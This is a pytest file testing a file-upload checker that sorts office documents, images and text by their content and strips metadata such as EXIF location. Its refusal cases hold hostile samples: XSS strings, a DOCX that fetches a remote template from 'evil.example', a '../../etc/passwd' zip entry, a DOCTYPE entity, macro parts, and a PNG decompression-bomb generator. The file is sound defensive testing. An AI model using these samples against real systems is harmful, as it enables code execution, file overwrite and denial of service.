"""What may come in, by content and not by name."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from PIL.TiffImagePlugin import IFDRational

from lianjian.files import checking
from lianjian.files.checking import examine
from lianjian.foundation.errors import Refused

DOCX_PARTS = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
XLSX_PARTS = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}


class Upload(io.BytesIO):
    """What a browser sends, as Django hands it over."""

    def __init__(self, content: bytes, size: int | None = None) -> None:
        super().__init__(content)
        self.size = len(content) if size is None else size


def check(name: str, content: bytes) -> checking.Checked:
    return examine(name, Upload(content))


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, form, **options)
    return out.getvalue()


def named(value: object) -> str | None:
    """Bytes of an archive hold the time of packing: no name for a case that two workers must agree on."""
    return "bytes" if isinstance(value, bytes) else None


@pytest.mark.parametrize(
    ("name", "content", "media_type", "kept"),
    [
        ("报告.pdf", b"%PDF-1.7\n...", "application/pdf", "报告.pdf"),
        ("表.xlsx", zipped(XLSX_PARTS), checking.XLSX, "表.xlsx"),
        ("文.DOCX", zipped(DOCX_PARTS), checking.DOCX, "文.DOCX"),
        (
            "演示.pptx",
            zipped({"[Content_Types].xml": b"", "ppt/presentation.xml": b""}),
            checking.PPTX,
            "演示.pptx",
        ),
        ("公文.ofd", zipped({"OFD.xml": b"<OFD/>"}), "application/ofd", "公文.ofd"),
        ("名单.csv", "姓名,单位\n".encode("gb18030"), "text/csv", "名单.csv"),
        ("说明.txt", "你好".encode(), "text/plain", "说明.txt"),
        ("照片.jpeg", picture(), "image/jpeg", "照片.jpeg"),
        ("截图.png", picture("PNG"), "image/png", "截图.png"),
        ("没有扩展名", picture("PNG"), "image/png", "没有扩展名.png"),
    ],
    ids=named,
)
def test_what_an_office_sends_comes_in(name: str, content: bytes, media_type: str, kept: str) -> None:
    found = check(name, content)
    assert (found.media_type, found.name) == (media_type, kept)


@pytest.mark.parametrize(
    ("name", "content", "refusal"),
    [
        ("空.pdf", b"", checking.FileEmpty),
        ("a.exe", b"MZ\x90\x00", checking.TypeNotAllowed),
        ("a.zip", zipped({"a.txt": b"x"}), checking.TypeNotAllowed),
        ("a.html", b"<html><script>alert(1)</script>", checking.TypeNotAllowed),
        ("a.txt", b"\xef\xbb\xbf <!DOCTYPE html><script>", checking.TypeNotAllowed),
        ("a.svg", b"<svg onload=alert(1)>", checking.TypeNotAllowed),
        ("a.txt", b"\x00\x01\x02", checking.TypeNotAllowed),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, checking.OldOffice),
        ("a.pdf", picture("PNG"), checking.WrongExtension),
        ("a.docx", zipped(XLSX_PARTS), checking.WrongExtension),
        ("a.docx", zipped({**DOCX_PARTS, "word/vbaProject.bin": b"x"}), checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "word/activeX/activeX1.xml": b"x"}), checking.HasMacros),
        ("a.xlsx", zipped({**XLSX_PARTS, "xl/macrosheets/sheet1.xml": b"x"}), checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "word/embeddings/oleObject1.bin": b"x"}), checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "[Content_Types].xml": b"ms-word.document.macroEnabled"}),
         checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "word/_rels/settings.xml.rels":
         b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'}),
         checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "word/_rels/settings.xml.rels":
         b'<Relationship TargetMode="External" Target="http://evil.example/t.dotm" Type="x/attachedTemplate"/>'}),
         checking.HasMacros),
        ("a.docx", zipped({**DOCX_PARTS, "../../etc/passwd": b"x"}), checking.FileBroken),
        ("a.docx", zipped({**DOCX_PARTS, "[Content_Types].xml": b"<!DOCTYPE x []><x/>"}), checking.FileBroken),
        ("a.docx", zipped({**DOCX_PARTS, "word/big.xml": b"0" * 60_000_000}), checking.FileBroken),
        ("a.docx", zipped({**DOCX_PARTS, **{f"word/{n}.xml": b"" for n in range(2100)}}), checking.FileBroken),
        ("a.docx", zipped(DOCX_PARTS)[:60], checking.FileBroken),
        ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, checking.FileBroken),
        ("a.jpg", picture()[:200], checking.FileBroken),
    ],
    ids=named,
)  # fmt: skip
def test_what_harms_stays_out_with_a_reason(name: str, content: bytes, refusal: type[Refused]) -> None:
    with pytest.raises(refusal) as found:
        check(name, content)
    assert found.value.field == "file" and len(str(found.value)) > 8


def test_too_large_is_refused_before_it_is_read() -> None:
    with pytest.raises(checking.FileTooLarge):
        examine("a.pdf", Upload(b"%PDF-", size=checking.MAX_SIZE + 1))


def bomb(width: int, height: int) -> bytes:
    """A PNG of a few kilobytes that unfolds to width x height pixels."""
    row = b"\0" * (width // 8 + 1)
    packed = zlib.compress(row * height, 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_pixel_bomb_is_not_unfolded() -> None:
    with pytest.raises((checking.PictureTooLarge, checking.FileBroken)):
        check("a.png", bomb(12_000, 12_000))
    assert check("b.png", bomb(800, 600)).media_type == "image/png"


def test_place_device_comments_and_tails_do_not_come_along() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"
    exif[0x0112] = 6
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (IFDRational(31), IFDRational(12), IFDRational(5))
    raw = picture(exif=exif.tobytes(), comment=b"hidden words") + b"<script>tail</script>"
    content = check("照片.jpg", raw).content
    assert isinstance(content, bytes)
    for secret in (b"SecretPhone", b"hidden words", b"script", b"Exif"):
        assert secret in raw or secret == b"Exif"
        assert secret not in content
    with Image.open(io.BytesIO(content)) as found:
        assert not dict(found.getexif()) and found.size == (
            30,
            40,
        )  # turned upright before the mark was dropped


def test_the_two_pictures_of_a_phone_become_one() -> None:
    """Phones write MPO: a JPEG with a second one behind it."""
    out = io.BytesIO()
    second = Image.new("RGB", (40, 30), (0, 0, 200))
    Image.new("RGB", (40, 30), (200, 0, 0)).save(out, "MPO", save_all=True, append_images=[second])
    found = check("IMG_1.jpg", out.getvalue())
    assert found.media_type == "image/jpeg" and isinstance(found.content, bytes)
    with Image.open(io.BytesIO(found.content)) as picture_:
        assert picture_.format == "JPEG"


def test_a_transparent_palette_survives() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (9, 9), (0, 0, 0, 0)).quantize().save(out, "PNG")
    content = check("a.png", out.getvalue()).content
    assert isinstance(content, bytes)
    with Image.open(io.BytesIO(content)) as found:
        assert found.convert("RGBA").getpixel((4, 4))[3] == 0  # type: ignore[index]


NAMES = ["a.pdf", "a.png", "a.jpg", "a.docx", "a.csv", "a", "a.txt"]
MARKS = [b"", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"\xd0\xcf\x11\xe0", b"%PDF-"]


@given(st.binary(max_size=400), st.sampled_from(NAMES), st.sampled_from(MARKS))
def test_any_bytes_are_taken_or_refused_never_a_crash(tail: bytes, name: str, head: bytes) -> None:
    try:
        found = check(name, head + tail)
    except Refused:
        return
    assert found.media_type in checking.TYPES.values()
